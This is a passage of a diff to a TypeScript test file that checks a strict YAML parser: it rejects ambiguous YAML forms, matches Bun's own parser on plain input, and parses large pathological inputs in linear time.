+    'a: [b]',
+    "a: ['b',]",
+    "a: ['b' 'c']",
+    "a: ['b'",
     '---\na: b',
     'a: b\n...',
     '%YAML 1.1',
@@ -122,24 +653,62 @@ test('YAML that could be read in two ways is not judged', () => {
     '<<: b',
     'a:\n    b: c\n  d: e',
     '',
+    'a: b:',
+    'a: ~',
+    'a: null',
+    'a: Null',
+    'a: yes',
+    'a: Off',
+    'a: y',
+    'a: TRUE',
+    'a: 1e3',
+    'a: 0x1',
+    'a: 010',
+    'a: 1:30',
+    'a: 2001-01-01',
+    'a: .inf',
+    'a: -1',
+    'a: 1_000',
+    'a: @b',
+    'a: `b',
+    'a: ,b',
+    'a:\n  - b\n - c',
+    'a:\n  - b\n    c',
+    Array.from({ length: 40 }, (_, at) => `${' '.repeat(at)}a:`).join('\n'),
   ]
   for (const text of texts) expect(() => parsePlainYaml(text)).toThrow(UnjudgedYaml)
 })
 
 test('plain YAML is read as docker reads it', () => {
-  const text = 'a: b # c\nd:\n- e\n- "f: g"\nh:\n  i: \'j # k\'\n  l: []\n  m: [n, "o p"]\nq: ~\nr:\n'
+  const text =
+    'a: b # c\nd:\n- e\n- "f: g"\nh:\n  i: \'j # k\'\n  l: []\n  m: [\'n\', "o p"] # q\nr:\ns: true\nt: 30\nu: "" # v\nw: x#y\nz: \'a"b\'\n'
+  const inner = { i: 'j # k', l: [], m: ['n', 'o p'] }
+  const value = { a: 'b', d: ['e', 'f: g'], h: inner, r: null, s: true, t: 30, u: '', w: 'x#y', z: 'a"b' }
   const map = parsePlainYaml(text)
-  expect(map.get('a')).toBe('b')
-  expect(map.get('d')).toEqual(['e', 'f: g'])
-  expect(map.get('h')).toEqual(
-    new Map<string, string | string[]>([
-      ['i', 'j # k'],
-      ['l', []],
-      ['m', ['n', 'o p']],
-    ]),
-  )
-  expect([map.get('q'), map.get('r')]).toEqual([null, null])
-  const plain = text.replace("'j # k'", 'j')
-  const native = Bun.YAML.parse(plain) as Record<string, unknown>
-  expect(Object.keys(native)).toEqual([...map.keys()])
+  expect(Object.fromEntries([...map, ['h', Object.fromEntries(map.get('h') as never)]])).toEqual(value)
+  expect(Bun.YAML.parse(text)).toEqual(value)
+})
+
+test('a file of 1 MB is parsed in linear time', () => {
+  const size = 1_000_000
+  const texts = {
+    spaces: `k: a${' '.repeat(size)}b`,
+    'spaces before comments': `k: a${`${' '.repeat(10)}#`.repeat(size / 11)}`,
+    'an open quote': `k: "${' #'.repeat(size / 2)}`,
+    'a list of spaces': `k: [${' '.repeat(size)}!]`,
+    'a list of texts': `k: [${"'a', ".repeat(size / 5)}!]`,
+    'a key': 'k'.repeat(size),
+    'many keys': Array.from({ length: size / 10 }, (_, at) => `k${at}: v`).join('\n'),
+    levels: Array.from({ length: 1_400 }, (_, at) => `${' '.repeat(at)}k:`).join('\n'),
+  }
+  for (const [, text] of Object.entries(texts)) {
+    const started = performance.now()
+    try {
+      parsePlainYaml(text)
+    } catch (error) {
+      expect(error).toBeInstanceOf(UnjudgedYaml)
+    }
+    // Quadratic parsing of such a text took over a minute.
+    expect(performance.now() - started).toBeLessThan(1_000)
+  }
 })
